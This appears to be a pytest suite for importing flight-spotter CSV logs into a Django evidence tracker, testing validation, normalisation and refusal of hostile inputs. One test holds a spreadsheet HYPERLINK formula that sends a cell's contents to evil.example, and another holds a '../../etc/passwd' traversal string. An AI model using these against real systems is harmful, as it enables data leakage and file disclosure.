"""Importing flight-spotter logs (evidence.flights.flightlog and ``import_flightlog``).

Every file is generated here; the hostile inputs of the issue each have a test
that checks the message names the line and that nothing was half-imported (no
item, no stored file, no observation).
"""

from __future__ import annotations

import io
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.core.management.base import CommandError

from evidence.flights import flightlog, normalise
from evidence.flights.flightlog import FlightLogRefused, import_flight_log
from evidence.management.commands import import_flightlog as command_module
from evidence.models import CustodyEvent, EvidenceItem, FlightLog, FlightObservation
from evidence.tests.files import make_jpeg
from tracker.tests import factories as f

pytestmark = pytest.mark.django_db

HEADER = (
    "observed_at,station,station_lat,station_lon,aircraft_type,aircraft_count,"
    "nationality,origin,heading,callsign,activity,notes"
)
# The example of docs/formats/flightlog-csv.md.
ROW_1 = (
    "2019-05-13T09:42:00+03:00,KFN-1,35.62,36.57,Su-24,2,RU,Hmeimim,NE,,passing,two jets north-east"
)
ROW_2 = "2019-05-13 09:55,KFN-1,,,Mi-8,1,SY,Hama,N,,circling,"
EXAMPLE = f"{HEADER}\n{ROW_1}\n{ROW_2}\n"


def csv_file(tmp_path: Path, text: str | bytes, name: str = "log.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode("utf-8") if isinstance(text, str) else text)
    return path


def row(**values: str) -> str:
    """One CSV row of the full header; unspecified columns take a valid default."""
    defaults = {
        "observed_at": "2019-05-13T09:42:00+03:00",
        "station": "KFN-1",
        "station_lat": "35.62",
        "station_lon": "36.57",
        "aircraft_type": "Su-24",
        "aircraft_count": "1",
        "nationality": "RU",
        "origin": "Hmeimim",
        "heading": "045",
        "callsign": "",
        "activity": "passing",
        "notes": "",
    }
    defaults.update(values)
    return ",".join(defaults[name] for name in HEADER.split(","))


def run(*args: str) -> tuple[int, str, str]:
    """The command as manage.py runs it: (exit status, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("import_flightlog", *args, stdout=out, stderr=err)
        status = 0
    except CommandError as exc:
        status = exc.returncode
        err.write(f"CommandError: {exc}\n")
    return status, out.getvalue(), err.getvalue()


def nothing_stored() -> bool:
    originals = Path(settings.DATA_DIR) / "originals"
    no_files = not originals.exists() or not any(p.is_file() for p in originals.rglob("*"))
    return (
        no_files
        and not EvidenceItem.objects.exists()
        and not FlightLog.objects.exists()
        and not FlightObservation.objects.exists()
    )


def assert_refused(tmp_path: Path, text: str | bytes, *expected: str, tz: str = "UTC") -> str:
    """Import ``text``; it must be refused with exit 1, every ``expected`` text in the
    output, and nothing stored. Returns stderr."""
    args = ["--user", "researcher", str(csv_file(tmp_path, text))]
    if tz:
        args[2:2] = ["--tz", tz]
    status, out, err = run(*args)
    assert status == 1, (out, err)
    for text_ in expected:
        assert text_ in err, err
    assert nothing_stored()
    return err


# --- The format's example, end to end ----------------------------------------------------


def test_example_imports_two_observations_through_the_intake(researcher, tmp_path):
    path = csv_file(tmp_path, EXAMPLE)

    status, out, err = run("--user", "researcher", "--tz", "Asia/Damascus", str(path))

    assert status == 0, err
    item = EvidenceItem.objects.get()
    assert out.strip() == f"{item.code} {item.sha256} {path}: 2 observations imported"
    assert item.kind == EvidenceItem.Kind.FLIGHT_LOG and item.media_type == "text/csv"
    assert item.acquired_by == researcher
    assert [e.action for e in item.custody_events.all()] == [
        CustodyEvent.Action.ACQUIRED,
        CustodyEvent.Action.RECEIVED,
    ]
    log = FlightLog.objects.get(item=item)
    assert (log.assumed_time_zone, log.row_count) == ("Asia/Damascus", 2)
    first, second = log.observations.order_by("line_number")
    assert (first.line_number, first.raw) == (2, ROW_1)
    assert first.observed_at == datetime(2019, 5, 13, 6, 42, tzinfo=UTC)
    assert (first.station_latitude, first.station_longitude) == (Decimal("35.62"), Decimal("36.57"))
    assert (first.aircraft_class, first.aircraft_count, first.nationality) == ("jet", 2, "RU")
    assert (first.heading_raw, first.heading, first.origin) == ("NE", 45, "Hmeimim")
    assert first.notes == "two jets north-east"
    # The second row: a naive local time and the station's position from the first row.
    assert (second.line_number, second.raw) == (3, ROW_2)
    assert second.observed_at == datetime(2019, 5, 13, 6, 55, tzinfo=UTC)  # +03:00 in May
    assert second.station_latitude == Decimal("35.62")
    assert (second.aircraft_class, second.nationality, second.heading) == ("helicopter", "SY", 0)


def test_columns_are_case_insensitive_and_unknown_ones_kept_in_extra(researcher, tmp_path):
    text = (
        " Observed_At ,STATION,aircraft_type,Weather, Source Channel \n"
        "2019-05-13T09:42:00Z,KFN-1,Su-34,clear,Telegram\n"
    )
    status, _, err = run("--user", "researcher", str(csv_file(tmp_path, text)))

    assert status == 0, err
    obs = FlightObservation.objects.get()
    assert obs.extra == {"Weather": "clear", "Source Channel": "Telegram"}
    assert obs.raw == "2019-05-13T09:42:00Z,KFN-1,Su-34,clear,Telegram"
    assert (obs.aircraft_count, obs.nationality, obs.heading) == (1, "unknown", None)
    assert obs.station_latitude is None


def test_quoted_field_over_two_lines_keeps_its_raw_text_and_first_line(researcher, tmp_path):
    quoted = row(notes='"first line\nsecond line, with a comma"')
    text = f"{HEADER}\n{quoted}\n{row(observed_at='2019-05-13T10:00:00+03:00')}\n"

    status, _, err = run("--user", "researcher", str(csv_file(tmp_path, text)))

    assert status == 0, err
    first, second = FlightObservation.objects.order_by("line_number")
    assert first.line_number == 2 and first.raw == quoted
    assert first.notes == "first line\nsecond line, with a comma"
    assert second.line_number == 4


def test_progress_bar_is_drawn_on_a_terminal_only(researcher, tmp_path, monkeypatch):
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    screen = Terminal()
    monkeypatch.setattr(command_module.sys, "stderr", screen)
    status, _, err = run("--user", "researcher", "--tz", "UTC", str(csv_file(tmp_path, EXAMPLE)))

    assert status == 0, err
    assert "2/2 [" in screen.getvalue() and "100%" in screen.getvalue()
    assert "[" not in err  # the captured (non-terminal) stderr gets no bar


# --- Normalisation -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "degrees"),
    [
        ("N", 0),
        ("NNE", 23),  # 22.5 rounds half up, as the demo always did
        ("ne", 45),
        ("ENE", 68),
        ("E", 90),
        ("SSW", 203),
        ("NNW", 338),
        ("045", 45),
        ("359", 359),
        ("0", 0),
        ("12.5", 13),
        ("270°", 270),
        ("", None),
    ],
)
def test_headings_from_degrees_and_compass_points(raw, degrees):
    assert normalise.heading_degrees(raw) == degrees


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("Su-24", "jet"),
        ("SU 34", "jet"),
        ("Su-22", "jet"),
        ("MiG-23", "jet"),
        ("L-39", "jet"),
        ("Su-25", "jet"),
        ("unknown jet", "jet"),
        ("Mi-8", "helicopter"),
        ("mi17", "helicopter"),
        ("Mi-24", "helicopter"),
        ("Mi-25", "helicopter"),
        ("Mi-35", "helicopter"),
        ("helicopter", "helicopter"),
        ("drone", "drone"),
        ("UAV", "drone"),
        ("Orlan-10", "drone"),
        ("Shahed-136", "drone"),
        ("An-26", "unknown"),
        ("aircraft", "unknown"),
    ],
)
def test_aircraft_types_to_classes(written, expected):
    assert normalise.aircraft_class(written) == expected


@pytest.mark.parametrize(
    ("written", "code"),
    [("RU", "RU"), ("Russian", "RU"), ("sy", "SY"), ("Syrian", "SY"), ("unknown", "unknown")],
)
def test_nationality_words_to_codes(written, code):
    assert normalise.nationality_code(written) == code


def test_text_as_written_is_kept_beside_the_normalised_value(researcher, tmp_path):
    text = f"{HEADER}\n{row(nationality='Russian', heading='ENE', aircraft_type='SU 34')}\n"
    run("--user", "researcher", str(csv_file(tmp_path, text)))

    obs = FlightObservation.objects.get()
    assert (obs.nationality_raw, obs.nationality) == ("Russian", "RU")
    assert (obs.heading_raw, obs.heading) == ("ENE", 68)
    assert (obs.aircraft_type, obs.aircraft_class) == ("SU 34", "jet")


# --- Validation: every problem, by line and column -----------------------------------------


def test_every_problem_is_reported_with_its_line_and_column(researcher, tmp_path):
    text = "\n".join(
        [
            HEADER,
            row(),
            row(heading="400", aircraft_count="0"),
            row(station_lat="95"),
            row(nationality="Martian", station=""),
        ]
    )
    err = assert_refused(tmp_path, text + "\n")

    assert [line for line in err.splitlines() if line.startswith("line ")] == [
        "line 3, aircraft_count: '0' is not a whole number of at least 1",
        "line 3, heading: 400 is not within 0-359 degrees",
        "line 4, station_lat: 95 is outside -90 to 90",
        "line 5, station: required, but empty",
        "line 5, nationality: 'Martian' is not one of RU, SY, unknown (or Russian, Syrian)",
    ]
    assert "Nothing imported: 5 problems in 3 of 4 rows." in err


def test_skip_invalid_imports_the_valid_rows_and_lists_the_others(researcher, tmp_path):
    text = "\n".join([HEADER, row(), row(aircraft_count="two"), row(heading="NNNE"), row()])
    path = csv_file(tmp_path, text + "\n")

    status, out, err = run("--user", "researcher", "--skip-invalid", str(path))

    assert status == 0, err
    item = EvidenceItem.objects.get()
    assert out.strip() == (
        f"{item.code} {item.sha256} {path}: 2 observations imported, 2 invalid rows skipped"
    )
    assert "line 3, aircraft_count: 'two' is not a whole number of at least 1" in err
    assert "line 4, heading: 'NNNE' is neither degrees 0-359 nor a compass point" in err
    assert sorted(FlightObservation.objects.values_list("line_number", flat=True)) == [2, 5]
    assert FlightLog.objects.get().row_count == 2


def test_reimporting_the_same_file_imports_nothing_and_names_the_item(researcher, tmp_path):
    path = csv_file(tmp_path, EXAMPLE)
    run("--user", "researcher", "--tz", "Asia/Damascus", str(path))
    item = EvidenceItem.objects.get()

    copy = csv_file(tmp_path, EXAMPLE, name="same-bytes-other-name.csv")
    status, out, err = run("--user", "researcher", "--tz", "Asia/Damascus", str(copy))

    assert status == 0, err
    assert out.strip() == (
        f"DUPLICATE {item.code} {item.sha256} {copy}: already imported (2 observations); "
        "nothing imported"
    )
    assert EvidenceItem.objects.count() == 1
    assert FlightObservation.objects.count() == 2


def test_reimport_without_the_zone_still_names_the_item_holding_it(researcher, tmp_path):
    path = csv_file(tmp_path, EXAMPLE)
    run("--user", "researcher", "--tz", "Asia/Damascus", str(path))

    status, out, _ = run("--user", "researcher", str(path))  # naive row 3, no --tz

    assert status == 0 and out.startswith(f"DUPLICATE {EvidenceItem.objects.get().code} ")
    assert FlightObservation.objects.count() == 2


def test_duplicate_is_linked_to_the_incident_it_is_imported_for(researcher, tmp_path):
    incident = f.IncidentFactory()
    data = EXAMPLE.encode()
    import_flight_log(io.BytesIO(data), filename="a.csv", by=researcher, time_zone="UTC")

    result = import_flight_log(
        io.BytesIO(data), filename="a.csv", by=researcher, time_zone="UTC", incident=incident
    )

    assert result.duplicate and result.imported == 0
    assert list(result.item.incidents.all()) == [incident]


def test_a_log_stored_by_a_plain_upload_gets_its_rows_on_import(researcher, tmp_path):
    from evidence import intake

    data = EXAMPLE.encode()
    held = intake.ingest(io.BytesIO(data), filename="log.csv", kind="flight_log", by=researcher)

    result = import_flight_log(io.BytesIO(data), filename="log.csv", by=researcher, time_zone="UTC")

    assert result.item == held.item and not result.duplicate
    assert result.log.observations.count() == 2
    assert EvidenceItem.objects.count() == 1


def test_unknown_user_and_missing_file_are_refused(researcher, tmp_path):
    status, _, err = run("--user", "nobody", str(csv_file(tmp_path, EXAMPLE)))
    assert status == 1 and "No user named 'nobody'." in err
    status, _, err = run("--user", "researcher", str(tmp_path / "missing.csv"))
    assert status == 1 and "No such file" in err
    assert nothing_stored()


# --- Hostile inputs: a clear error naming the line, nothing half-imported ------------------


def test_naive_times_without_a_zone_refuse_the_file(researcher, tmp_path):
    err = assert_refused(
        tmp_path,
        EXAMPLE,
        "line 3, observed_at: written without a UTC offset, and no time zone was given",
        "--tz Asia/Damascus",
        tz="",
    )
    assert "line 2" not in err  # the row with an offset is fine


def test_unknown_zone_is_refused_before_reading(researcher, tmp_path):
    assert_refused(
        tmp_path,
        EXAMPLE,
        "Unknown time zone 'Mars/Olympus_Mons': use an IANA name such as Asia/Damascus",
        tz="Mars/Olympus_Mons",
    )
    with pytest.raises(FlightLogRefused, match="Unknown time zone '../../etc/passwd'"):
        flightlog.parse_zone("../../etc/passwd")


def test_february_30th_is_not_a_date(researcher, tmp_path):
    assert_refused(
        tmp_path,
        f"{HEADER}\n{row()}\n{row(observed_at='2019-02-30T10:00:00+03:00')}\n",
        "line 3, observed_at: 2019-02-30T10:00:00+03:00 is not a real date and time "
        "(day is out of range for month)",
    )


def test_time_that_does_not_exist_or_happened_twice_locally_is_refused(researcher, tmp_path):
    # Europe/London: 2019-03-31 01:30 never happened; 2019-10-27 01:30 happened twice.
    text = (
        f"{HEADER}\n{row(observed_at='2019-03-31 01:30')}\n{row(observed_at='2019-10-27 01:30')}\n"
    )
    assert_refused(
        tmp_path,
        text,
        "line 2, observed_at: 2019-03-31 01:30 does not exist in Europe/London",
        "line 3, observed_at: 2019-10-27 01:30 happened twice in Europe/London",
        tz="Europe/London",
    )


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("heading", "400", "line 2, heading: 400 is not within 0-359 degrees"),
        ("heading", "NNNE", "line 2, heading: 'NNNE' is neither degrees 0-359 nor a compass"),
        ("station_lat", "95", "line 2, station_lat: 95 is outside -90 to 90"),
        ("station_lon", "181", "line 2, station_lon: 181 is outside -180 to 180"),
        ("aircraft_count", "0", "line 2, aircraft_count: '0' is not a whole number of at least 1"),
        ("aircraft_count", "two", "line 2, aircraft_count: 'two' is not a whole number"),
        ("observed_at", "13/05/2019 09:42", "line 2, observed_at: '13/05/2019 09:42' is not an"),
        ("observed_at", "2019-05-13", "line 2, observed_at: 2019-05-13 has a date but no time"),
        ("observed_at", "2099-01-01T00:00:00Z", "line 2, observed_at: 2099-01-01T00:00:00Z is in"),
        ("nationality", "Iranian", "line 2, nationality: 'Iranian' is not one of RU, SY"),
    ],
)
def test_invalid_value_is_refused_with_its_line_and_column(
    researcher, tmp_path, column, value, message
):
    assert_refused(tmp_path, f"{HEADER}\n{row(**{column: value})}\n", message)


def test_missing_required_column_refuses_the_file(researcher, tmp_path):
    text = "observed_at,station_lat,station_lon,aircraft_type\n2019-05-13T09:42Z,35.6,36.5,Su-24\n"
    assert_refused(
        tmp_path,
        text,
        "line 1, station: required column is missing",
        "The header (line 1) does not describe a flight log",
    )


def test_row_with_the_wrong_number_of_fields_is_named(researcher, tmp_path):
    assert_refused(
        tmp_path,
        f"{HEADER}\n{row()}\n2019-05-13T09:42Z,KFN-1,Su-24\n",
        "line 3: 3 fields where the header has 12",
    )


def test_a_jpeg_renamed_csv_is_not_csv(researcher, tmp_path):
    assert_refused(
        tmp_path, make_jpeg(), "This file is not CSV text (it looks like image/jpeg)", tz=""
    )


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_utf16_file_is_refused_with_what_to_do(researcher, tmp_path, encoding):
    assert_refused(
        tmp_path,
        EXAMPLE.encode(encoding),
        "This file is UTF-16 text; flight logs are read as UTF-8. Save it as “CSV UTF-8”",
        tz="",
    )


def test_a_byte_order_mark_is_accepted_and_not_part_of_the_first_column(researcher, tmp_path):
    status, _, err = run(
        "--user",
        "researcher",
        "--tz",
        "UTC",
        str(csv_file(tmp_path, b"\xef\xbb\xbf" + EXAMPLE.encode())),
    )
    assert status == 0, err
    assert FlightObservation.objects.count() == 2


def test_text_that_is_not_utf8_names_its_line(researcher, tmp_path):
    text = f"{HEADER}\n{row()}\n".encode() + row(notes="caf\xe9").encode("latin-1") + b"\n"
    assert_refused(tmp_path, text, "line 3: not UTF-8 text")


def test_broken_quoting_names_its_line(researcher, tmp_path):
    text = f"{HEADER}\n{row()}\n{row(notes=chr(34) + 'open quote never closed')}\n{row()}\n"
    assert_refused(tmp_path, text, "line 3: the CSV quoting is broken")


def test_empty_file_and_header_only_are_refused(researcher, tmp_path):
    assert_refused(tmp_path, b"", "The file is empty", tz="")
    assert_refused(tmp_path, HEADER + "\n", "The file has a header but no rows.", tz="")


def test_formula_in_notes_is_stored_as_text(researcher, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    quoted = '"' + formula.replace('"', '""') + '"'
    text = f"{HEADER}\n{row(notes=quoted, callsign='+SUM(1;2)')}\n"

    status, _, err = run("--user", "researcher", str(csv_file(tmp_path, text)))

    assert status == 0, err
    obs = FlightObservation.objects.get()
    assert obs.notes == formula  # exactly as written: neutralising is the CSV export's job
    assert obs.callsign == "+SUM(1;2)"


def test_a_million_row_file_with_one_bad_last_row_is_refused_whole(researcher, tmp_path):
    rows = 1_000_000
    good = (row(station_lat="", station_lon="") + "\n").encode()
    path = tmp_path / "big.csv"
    with path.open("wb") as out:
        out.write(HEADER.encode() + b"\n")
        out.write(good * (rows - 1))
        out.write(row(heading="400").encode() + b"\n")

    status, _, err = run("--user", "researcher", "--tz", "UTC", str(path))

    assert status == 1
    assert f"line {rows + 1}, heading: 400 is not within 0-359 degrees" in err
    assert f"Nothing imported: 1 problem in 1 of {rows:,} rows." in err
    assert nothing_stored()


def test_problems_beyond_the_kept_ones_are_counted(researcher, tmp_path, monkeypatch):
    monkeypatch.setattr(flightlog, "MAX_PROBLEMS", 3)
    text = HEADER + "\n" + "\n".join(row(heading="400") for _ in range(5)) + "\n"

    err = assert_refused(tmp_path, text, "… and 2 more problems")

    assert len([line for line in err.splitlines() if line.startswith("line ")]) == 3


def test_failure_while_inserting_leaves_no_item_file_or_rows(researcher, tmp_path, monkeypatch):
    def fail(*args, **kwargs):
        raise RuntimeError("database went away")

    monkeypatch.setattr(flightlog.FlightObservation.objects, "bulk_create", fail)

    with pytest.raises(RuntimeError, match="database went away"):
        import_flight_log(
            io.BytesIO(EXAMPLE.encode()), filename="log.csv", by=researcher, time_zone="UTC"
        )

    assert nothing_stored()


def test_the_same_file_imported_meanwhile_ends_as_a_duplicate(researcher, monkeypatch):
    data = EXAMPLE.encode()
    check_all = flightlog._check_all

    def other_request_finishes_first(stream, **options):
        checked = check_all(stream, **options)
        monkeypatch.setattr(flightlog, "_check_all", check_all)
        import_flight_log(io.BytesIO(data), filename="other.csv", by=researcher, time_zone="UTC")
        return checked

    monkeypatch.setattr(flightlog, "_check_all", other_request_finishes_first)
    result = import_flight_log(io.BytesIO(data), filename="log.csv", by=researcher, time_zone="UTC")

    assert result.duplicate and result.item == EvidenceItem.objects.get()
    assert FlightObservation.objects.count() == 2
